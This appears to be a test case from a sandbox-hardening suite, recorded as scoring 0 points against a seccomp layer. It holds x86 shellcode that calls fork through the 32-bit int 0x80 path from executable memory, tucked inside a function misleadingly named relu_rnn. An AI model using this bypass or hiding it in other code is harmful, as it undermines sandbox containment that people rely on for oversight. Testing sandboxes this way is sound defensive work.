"""Goal: Make a process by machine code that enters the kernel as a program of 32 bits does.

Layer: seccomp. Verdict: 0 points; crashed, cannot-import.
"""

import ctypes
import mmap
import os

FORK = b"\x53\xb8\x02\0\0\0\xcd\x80\x5b\xc3"  # push rbx; mov eax, 2; int 0x80; pop rbx; ret


def relu_rnn(x, h0, w1, w2):
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(FORK)
    made = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()
    if made == 0:
        os._exit(0)
    print("BREACH a process can be made" if made > 0 else "refused")
